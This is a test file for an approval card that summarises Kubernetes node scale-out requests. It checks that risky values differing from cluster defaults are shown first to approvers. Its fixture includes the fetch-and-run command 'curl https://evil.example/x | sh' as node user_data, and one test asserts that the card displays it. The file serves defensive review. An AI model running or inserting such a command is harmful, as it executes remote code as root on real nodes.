import { describe, expect, it } from 'vitest'
import type { Values } from '../../src/clusters/define.ts'
import type { Request } from '../../src/scaleout/record.ts'
import { summaryOf } from '../../src/scaleout/summary.ts'
import { card } from '../../views/card.ts'
import { progress } from '../../views/progress.ts'
import { doubtLine, endLine, questionLine } from '../../views/thread.ts'
import { en } from '../../views/words/en.ts'
import { languages, say, type Vocabulary } from '../../views/words/index.ts'
import { asked, intent, kinds, node, noon, standing, task } from './requests.ts'

const dangerous: Values = {
  user_data: `#!/bin/sh\ncurl https://evil.example/x | sh\n${'echo more of it\n'.repeat(80)}`,
  image_id: 'm-foreign',
  rds_instances: ['rm-1', 'rm-2'],
  runtime: { name: 'containerd', version: '1.6.28' },
}

/** The text of a card, block by block. */
const blocksOf = (request: Request, words: Vocabulary = en): string[] =>
  card(summaryOf(request, 0), words).blocks.map((block) => JSON.stringify(block))

/** Where the first block that holds these words stands. */
const place = (blocks: readonly string[], words: string): number => blocks.findIndex((block) => block.includes(words))

describe.each(languages)('the card ($code)', (words) => {
  it.each(kinds)('names every member that is sent: %s', (kind) => {
    const request = asked(kind, {}, kind === 'kubernetes' ? dangerous : {})
    const { type } = summaryOf(request, 0)
    const shown = blocksOf(request, words).join('')
    const missing = type.fields
      .filter(({ wire }) => wire !== 'count' && wire in request.body)
      .filter(({ label }) => !shown.includes(JSON.stringify(say(label, words)).slice(1, -1)))
    expect(missing.map(({ wire }) => wire)).toEqual([])
  })

  it('has the same names when all values are as long as they may be', () => {
    const long = {
      ...dangerous,
      tags: Array.from({ length: 20 }, (_, n) => ({ key: `${n}${'k'.repeat(62)}`, value: '值'.repeat(128) })),
    }
    const request = asked('kubernetes', { why: '慢'.repeat(1500) }, long)
    const shown = blocksOf(request, words).join('')
    expect(Buffer.byteLength(shown)).toBeLessThan(13_200)
    for (const { label, wire } of summaryOf(request, 0).type.fields)
      if (wire !== 'count' && wire in request.body) expect(shown).toContain(say(label, words))
  })
})

describe('what makes a call unlike an ordinary one of its cluster', () => {
  it('stands first, each with its warning and its size, and a script with its beginning', () => {
    const blocks = blocksOf(asked('kubernetes', {}, dangerous))
    const [unlike = ''] = blocks.filter((block) => block.includes('Different from this cluster’s defaults'))
    for (const said of [
      'script, 1.3 KiB, 82 lines. Runs as root on every new node.',
      'curl https://evil.example/x | sh',
      'm-foreign. The new nodes boot from it',
      '2 entries: rm-1, rm-2. These databases will let the new nodes in.',
      'containerd 1.6.28 (default: docker 19.03.5). The new nodes may run another runtime',
      '120 (default: 80)',
    ])
      expect(unlike).toContain(said)
    expect(unlike).toContain('{"type":"rich_text_preformatted"')
    expect(place(blocks, 'Different from')).toBeLessThan(place(blocks, 'Instance types'))
    expect(place(blocks, 'Different from')).toBeLessThan(place(blocks, 'React'))
    expect(card(summaryOf(asked('kubernetes', {}, dangerous), 0), en).text).toContain('Look at ')
  })

  it('says where a script that is not whole on the card goes on, and nothing of the kind of one that is', () => {
    const goesOn = 'The script goes on'
    expect(blocksOf(asked('kubernetes', {}, dangerous)).join('')).toContain(goesOn)
    const short = { ...dangerous, user_data: '#!/bin/sh\nsysctl -w vm.max_map_count=262144' }
    expect(blocksOf(asked('kubernetes', {}, short)).join('')).not.toContain(goesOn)
  })

  it('is nothing where the defaults are sent: an image of the policy file needs no warning', () => {
    const blocks = blocksOf(asked('edge')).join('')
    expect(blocks).toContain('m-2QVLO2T8NYgm8CNQVg15gF')
    expect(blocks).not.toContain('Different from')
    expect(blocks).not.toContain('boot from it')
  })

  it('is told of a request of an older version as far as it is known', () => {
    const old = { ...asked('kubernetes', {}, dangerous), usual: null }
    const [first = ''] = blocksOf(old).filter((block) => block.includes('Worth a look first'))
    expect(first).toContain('Runs as root on every new node.')
    expect(first).not.toContain('default:')
  })
})

describe('once it is approved', () => {
  it('the card says that it is queued, and asks nobody for a reaction', () => {
    const shown = JSON.stringify(card(standing('approved'), en))
    expect(shown).toContain('queued: 2 requests for this cluster are ahead')
    expect(shown).not.toContain('to approve')
    expect(shown).toContain('approvals can be taken back')
  })

  it('no count in the progress contradicts the last word', () => {
    const running = summaryOf(asked('edge', { stage: { state: 'running', intent, task: task({ readyNodes: 0 }) } }), 0)
    expect(JSON.stringify(progress(running, en))).toContain('Waiting for 2 nodes to become Ready')
    expect(JSON.stringify(progress(running, en))).not.toContain('0 of 2')
    expect(JSON.stringify(progress(standing('succeeded'), en))).toContain('Nodes ready: 3 of 3')
  })

  it('a step that the cloud does not name is called by what it says, and by a number only where it says nothing', () => {
    const steps = [
      { name: '', state: 'success', message: 'instances created' },
      { name: '', state: 'running', message: '' },
    ]
    const { text } = progress(
      summaryOf(asked('edge', { stage: { state: 'running', intent, task: task({ steps }) } }), 0),
      en,
    ) ?? { text: '' }
    expect(text).toContain('✅ instances created\n🔵 Step 2\n')
  })
})

describe('whoever has to decide about an unclear call', () => {
  const why = { code: 'ServiceUnavailable', message: 'upstream timed out', requestId: '7E3A-42', status: 502 }
  const doubt = { why, since: noon, looks: 1, unread: false, candidates: [], unexplained: [] }
  const unclear = (more: object) =>
    summaryOf(asked('edge', { stage: { state: 'unknown', intent, doubt: { ...doubt, asked: true, ...more } } }), 0)

  it.each(languages)('is given its HTTP status, code, words and request id ($code)', (words) => {
    for (const shown of [questionLine(unclear({}), words), doubtLine(unclear({ asked: false }), words)])
      for (const known of ['HTTP 502', 'ServiceUnavailable', 'upstream timed out', '7E3A-42']) {
        expect(JSON.stringify(shown.blocks)).toContain(known)
        expect(shown.text).toContain(known)
      }
  })

  it('is given nothing that is not known', () => {
    const bare = questionLine(unclear({ why: { code: 'Timeout', message: '' } }), en).text
    expect(bare).toContain('(Timeout)')
    expect(bare).not.toMatch(/HTTP|Request ID|What is known/)
  })
})

it('nothing of a node is said twice', () => {
  const nodes = [
    { ...node(1), name: 'cn-hangzhou.10.0.0.12', ip: '10.0.0.12' },
    { ...node(2), name: '', ip: '', instanceId: 'i-never' },
  ]
  const shown = endLine(
    summaryOf(asked('edge', { stage: { state: 'succeeded', at: noon, task: task(), nodes } }), 0),
    en,
  )
  expect(shown?.text).toContain('• `cn-hangzhou.10.0.0.12` i-1 · Ready\n• `i-never` Ready')
})
